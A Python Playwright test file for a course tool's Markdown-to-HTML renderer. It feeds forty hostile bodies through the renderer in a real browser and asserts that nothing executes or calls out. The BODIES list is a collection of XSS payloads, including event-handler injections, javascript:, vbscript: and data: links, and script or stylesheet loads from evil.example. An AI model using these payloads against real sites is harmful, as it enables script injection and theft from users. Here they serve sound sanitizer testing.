"""Forty bodies that somebody wrote to do harm, in a real Chromium without any other guard."""

import json
from pathlib import Path

from playwright.sync_api import Browser

from duologue.course.preview import to_html
from duologue.course.read import course_of
from duologue.review.picture import picture_of
from duologue.review.report.checked import check
from duologue.review.report.html import as_html
from duologue.web.words import say
from support.browsers import page_of

BODIES = [
    "<script>hit()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()><circle r=9></svg>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=9>click</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>click</maction></math>",
    "<iframe src='javascript:hit()'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>Join</button></form>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<video src=https://evil.example/x.mp4 autoplay></video><audio src=//evil.example/x autoplay>",
    "[click](javascript:hit())",
    "[click](JaVaScRiPt&colon;hit())",
    "[click](java&#10;script:hit())",
    "[click](vbscript:hit())",
    "[click](data:text/html,<script>opener.hit()</script>)",
    "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J2hpdCgpJy8+)",
    "![](https://evil.example/pixel.png)",
    "![](//evil.example/pixel.png)",
    "![](data:image/svg+xml,%3Csvg%20onload='hit()'%20xmlns='http://www.w3.org/2000/svg'/%3E)",
    "![x](x\"onerror=\"hit())",
    '![x](x "t" onerror=hit())',
    "<javascript:hit()>",
    "[a]: javascript:hit()\n\n[a]",
    "```\n</code></pre><script>hit()</script>\n```",
    "```\"><script>hit()</script>\nx\n```",
    "| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |",
    "Open \u202egnp.exe\u202c now",
    "\u2066\u2067\u202d left open \u202e without an end",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<!--><img src=x onerror=hit()>-->",
    "<a href=x style='position:fixed;inset:0' onclick=hit()>all over</a>",
]  # fmt: skip


def test_hostile_bodies_come_out_harmless(browser: Browser) -> None:
    page = page_of(browser)
    page.expose_function("hit", lambda: hits.append(1))
    hits: list[int] = []
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    assert len(BODIES) >= 30
    for body in BODIES:
        course = course_of(f"---\ncourse: X\n---\n# S · 9 min\n## talk · A · 9 min\n{body}\n")
        (activity,) = course.sessions[0].activities
        html = to_html(activity.body)
        page.set_content(f"<main>{html}</main><p id=after>after</p>")
        found = page.evaluate("""() => [...document.querySelectorAll("main *")].flatMap(e =>
            [...e.attributes].map(a => [e.localName, a.name, a.value]))""")
        tags = page.evaluate("[...document.querySelectorAll('main *')].map(e => e.localName)")
        assert not set(tags) & {
            "script", "style", "iframe", "svg", "math", "form", "input", "object", "embed", "video",
            "audio", "base", "meta", "link", "details", "button", "noscript",
        }, body  # fmt: skip
        for tag, name, value in found:
            assert not name.startswith("on"), body
            assert name not in ("style", "srcset", "srcdoc", "id", "class"), body
            if name in ("href", "src"):
                scheme = page.evaluate("v => new URL(v, 'https://here.example/').protocol", value)
                assert scheme in ("https:", "http:", "mailto:"), body
            if tag == "img" and name == "src":
                assert (
                    page.evaluate("v => new URL(v, 'https://here.example/').host", value)
                    == "here.example"
                ), body
        text = page.locator("main").inner_text()
        assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e"), body
        for link in page.locator("main a").all():
            link.click(no_wait_after=True, timeout=30_000, modifiers=["Control"])
        assert page.locator("#after").is_visible(), body
        assert (hits, dialogs, page.watched.strangers) == ([], [], []), body


def test_hostile_titles_come_out_harmless_in_picture_and_report(
    browser: Browser, tmp_path: Path
) -> None:
    page = page_of(browser)
    hits: list[int] = []
    page.expose_function("hit", lambda: hits.append(1))
    titles = [body.replace("\n", " ").replace("|", "") for body in BODIES]
    activities = "\n".join(f"## talk · {title} · 1 min" for title in titles)
    text = f"---\ncourse: {json.dumps(titles[0])}\n---\n# {titles[2]} · 60 min\n{activities}\n"
    session = course_of(text).sessions[0]
    page.set_content(picture_of(session, say))
    assert page.locator("svg [data-activity]").count() == len(titles)
    report = tmp_path / "report.html"
    report.write_text("\n".join(as_html([check("<script>hit()</script>.md", text)], say)))
    page.goto(f"file://{report}")
    assert page.locator("script, iframe, img, object").count() == 0
    assert hits == []
    assert [url for url in page.watched.strangers if not url.startswith("file:")] == []
